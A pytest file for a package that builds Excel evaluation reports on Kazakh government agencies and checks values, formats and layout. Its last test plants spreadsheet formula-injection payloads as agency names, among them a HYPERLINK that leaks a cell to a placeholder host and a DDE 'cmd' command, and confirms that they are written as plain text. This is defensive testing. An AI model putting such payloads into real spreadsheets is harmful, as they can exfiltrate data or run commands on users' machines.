"""Excel output read back with openpyxl: values, number formats, frozen headers, column widths."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import duckdb
import openpyxl
import pytest

from kzeval.reports.build import build_agency_report
from kzeval.reports.data import Snapshot, load_snapshot
from kzeval.reports.national import build_national_report
from kzeval.reports.xlsx import write_agency_xlsx, write_national_xlsx


@pytest.fixture(scope="module")
def agency_book(snapshot: Snapshot, tmp_path_factory: pytest.TempPathFactory) -> openpyxl.Workbook:
    path = write_agency_xlsx(build_agency_report(snapshot, "CGO-A"), tmp_path_factory.mktemp("xlsx") / "CGO-A.xlsx")
    return openpyxl.load_workbook(path)


@pytest.fixture(scope="module")
def national_path(snapshot: Snapshot, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_national_xlsx(build_national_report(snapshot), tmp_path_factory.mktemp("xlsx") / "national.xlsx")


def _row_of(ws: openpyxl.worksheet.worksheet.Worksheet, column: int, value: str) -> int:
    for row in range(1, ws.max_row + 1):
        if ws.cell(row, column).value == value:
            return row
    raise AssertionError(f"{value!r} not found in column {column} of {ws.title}")


def test_agency_workbook_sheets(agency_book: openpyxl.Workbook) -> None:
    assert agency_book.sheetnames == [
        "Сводка",
        "Блок Взаимодействие",
        "Услуги",
        "Жалобы",
        "Блок Орг. развитие",
        "ИТ",
        "Показатели",
    ]


def test_agency_summary_sheet(agency_book: openpyxl.Workbook) -> None:
    ws = agency_book["Сводка"]
    assert ws.freeze_panes == "A6"  # title rows 1–3, header on row 5
    assert ws["A5"].value == "Блок" and ws["B5"].value == "Итоговая оценка"
    assert ws["A6"].value == "Взаимодействие государственного органа с физическими и юридическими лицами"
    assert ws["B6"].value == 81.2 and ws["B6"].number_format == "0.00"
    assert ws["C6"].value == "Средняя"
    assert ws["D6"].value == 2 and ws["E6"].value == 3
    assert ws["H6"].value == pytest.approx(6.2) and ws["H6"].number_format == "+0.00;-0.00;0.00"
    assert ws["B7"].value == 59.6 and ws["C7"].value == "Низкая"
    assert ws.column_dimensions["A"].width > 50


def test_services_form_sheet(agency_book: openpyxl.Workbook) -> None:
    ws = agency_book["Услуги"]
    assert ws["A2"].value == (
        "Заключение о результатах операционной оценки качества оказания государственных услуг, "
        "предоставляемых центральными государственными органами"
    )
    assert ws["A1"].value == "Приложение 3 к Методике (взаимодействие). Форма"
    assert ws.freeze_panes == "A7"
    assert [ws.cell(6, c).value for c in range(1, 9)] == [
        "№",
        "Критерии операционной оценки",
        "Балл",
        "Максимальный балл",
        "Доля от максимума",
        "Медиана ЦГО",
        "2023",
        "Изменение",
    ]
    # row 7: criterion 1 = K1, 21.5 of 25, 86 %, median 21, 2023: 18, +3.5
    assert ws["A7"].value == "1" and ws["C7"].value == 21.5 and ws["D7"].value == 25
    assert ws["C7"].number_format == "0.00" and ws["D7"].number_format == "0.00"
    assert ws["E7"].value == pytest.approx(0.86) and ws["E7"].number_format == "0.0%"
    assert ws["F7"].value == 21 and ws["G7"].value == 18 and ws["H7"].value == pytest.approx(3.5)
    k2 = _row_of(ws, 1, "2")
    assert ws.cell(k2, 3).value == "не рассчитано" and ws.cell(k2, 4).value == 50
    total = _row_of(ws, 2, "Общая оценка по критериям")
    assert ws.cell(total, 3).value == 80 and ws.cell(total, 4).value == 100
    penalty = _row_of(ws, 2, "Вычет штрафных баллов")
    assert ws.cell(penalty, 3).value == 2.2 and ws.cell(penalty, 4).value == 5
    final = _row_of(ws, 2, "Итоговая оценка с учетом вычета штрафных баллов")
    assert ws.cell(final, 3).value == 77.8 and ws.cell(final, 3).number_format == "0.00"
    assert ws.cell(final, 8).value == pytest.approx(7.8)
    assert _row_of(ws, 1, "Анализ") > final
    assert _row_of(ws, 1, "Выводы и рекомендации") > final
    assert ws.column_dimensions["B"].width >= 60


def test_block_sheet_has_tier_and_weakest(agency_book: openpyxl.Workbook) -> None:
    ws = agency_book["Блок Взаимодействие"]
    assert ws.freeze_panes == "A7"
    final = _row_of(ws, 2, "Итоговая оценка *")  # the block is provisional in the fixture
    assert ws.cell(final, 3).value == 81.2
    tier = _row_of(ws, 2, "Степень эффективности")
    assert ws.cell(tier, 3).value == "Средняя"
    weakest = _row_of(ws, 2, "Соблюдение сроков рассмотрения жалоб и заявлений")
    assert ws.cell(weakest, 5).value == 0.75 and ws.cell(weakest, 5).number_format == "0.0%"


def test_indicator_sheet(agency_book: openpyxl.Workbook) -> None:
    ws = agency_book["Показатели"]
    assert ws.freeze_panes == "C4"
    assert ws["B4"].value == "svc_k1" and ws["F4"].value == 21.5 and ws["F4"].number_format == "0.00"
    penalty = _row_of(ws, 2, "svc_downtime_penalty")
    assert ws.cell(penalty, 6).value == -1 and ws.cell(penalty, 13).value == "t=5; w=0,2"
    assert ws.auto_filter.ref is not None


def test_national_workbook(national_path: Path) -> None:
    book = openpyxl.load_workbook(national_path)
    assert book.sheetnames == [
        "Сводка",
        "Направления",
        "Рейтинг Взаимодействие ЦГО",
        "Рейтинг Взаимодействие МИО",
        "Рейтинг Орг. развитие ЦГО",
        "Регионы МИО",
        "Динамика",
    ]
    summary = book["Сводка"]
    assert summary.freeze_panes == "A4"
    assert summary["B4"].value == "ЦГО" and summary["C4"].value == 3
    assert summary["D4"].value == pytest.approx(78.5667, abs=1e-4) and summary["D4"].number_format == "0.00"
    assert [summary.cell(4, c).value for c in range(8, 12)] == [1, 1, 1, 0]  # high, medium, low, ineffective

    ranking = book["Рейтинг Взаимодействие ЦГО"]
    assert ranking.freeze_panes == "C4"
    assert [ranking.cell(r, 2).value for r in (4, 5, 6)] == ["Министерство Б", "Министерство А", "Министерство В & Г"]
    assert ranking["D3"].value == "Качество оказания государственных услуг"
    assert ranking["F5"].value == 81.2 and ranking["F5"].number_format == "0.00"  # A's block score
    assert ranking["G5"].value == "Средняя"
    assert ranking["I5"].value == pytest.approx(6.2) and ranking["I5"].number_format == "+0.00;-0.00;0.00"

    regions = book["Регионы МИО"]
    assert regions["B4"].value == "35" and regions["C4"].value == "Акимат Карагандинской области"
    assert regions["E4"].value == 88 and regions["E4"].number_format == "0.00"

    movers = book["Динамика"]
    assert movers["C4"].value == "Министерство А" and movers["F4"].value == pytest.approx(6.2)

    with zipfile.ZipFile(national_path) as z:  # the native tier chart (openpyxl does not load charts)
        assert any(name.startswith("xl/charts/chart") for name in z.namelist())


# Names a source system may deliver that a spreadsheet would run as formulas if written as such
# (issue 16 item 4): every prefix Excel and LibreOffice treat as the start of a formula.
HOSTILE_NAMES = {
    "CGO-A": '=HYPERLINK("http://example.invalid/?leak="&A1,"Министерство А")',
    "CGO-B": "+1+cmd|' /C calc'!A0",
    "CGO-C": "-2+3",
    "MIO-35": "@SUM(1+1)",
    "MIO-71": "=1+1",
}


def _hostile_snapshot(make_warehouse: Callable[..., Path]) -> Snapshot:
    path = make_warehouse("hostile.duckdb")
    with duckdb.connect(str(path)) as con:
        for agency, name in HOSTILE_NAMES.items():
            con.execute("UPDATE marts.dim_agencies SET name_ru = ? WHERE agency_id = ?", [name, agency])
    return load_snapshot(path, 2024)


def _cells(path: Path) -> list[tuple[str, str, object, str]]:
    book = openpyxl.load_workbook(path)  # formulas are kept as formulas (data_type "f"), not evaluated
    return [
        (ws.title, cell.coordinate, cell.value, cell.data_type)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def test_hostile_names_are_text_in_every_workbook(make_warehouse: Callable[..., Path], tmp_path: Path) -> None:
    snapshot = _hostile_snapshot(make_warehouse)
    written = [
        write_agency_xlsx(build_agency_report(snapshot, agency), tmp_path / f"{agency}.xlsx")
        for agency in HOSTILE_NAMES
    ]
    written.append(write_national_xlsx(build_national_report(snapshot), tmp_path / "national.xlsx"))
    for path in written:
        cells = _cells(path)
        formulas = [c for c in cells if c[3] == "f"]
        assert not formulas, f"{path.name}: formula cells {formulas[:5]}"
        texts = {str(c[2]) for c in cells if c[3] in ("s", "inlineStr")}
        shown = [name for name in HOSTILE_NAMES.values() if any(name in t for t in texts)]
        assert shown, f"{path.name}: no hostile name written at all (the test would prove nothing)"
    # the body's name heads each form sheet (row 3, merged) as the literal text
    agency_cells = _cells(written[0])
    heads = [c for c in agency_cells if c[1] == "A3" and c[0] not in ("Сводка", "Показатели")]
    assert heads and all(c[2] == HOSTILE_NAMES["CGO-A"] and c[3] == "s" for c in heads)
